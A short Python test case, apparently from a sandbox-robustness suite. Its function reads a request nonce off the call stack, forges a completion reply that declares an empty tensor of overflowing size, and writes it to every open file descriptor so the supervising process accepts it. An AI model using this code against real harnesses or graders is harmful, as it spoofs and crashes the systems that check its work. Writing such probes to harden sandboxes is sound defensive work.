"""Answers with an empty tensor whose other dimensions multiply to more than any number can hold."""
# verdict: broke off: its process sent

import contextlib
import json
import os
import struct
import sys


def attacked(x):
    frame = sys._getframe()
    while "request" not in frame.f_locals:
        frame = frame.f_back
    reply = {"kind": "done", "nonce": frame.f_locals["request"]["nonce"], "defined": True, "changed": []}
    reply |= {"result": {"tensor": 0}, "tensors": [["float32", [2**26] * 15 + [0], False]]}
    header = json.dumps(reply).encode()
    for number in range(3, 64):
        with contextlib.suppress(OSError):
            os.write(number, struct.pack("<QQ", len(header), 0) + header)
    return x.sum()
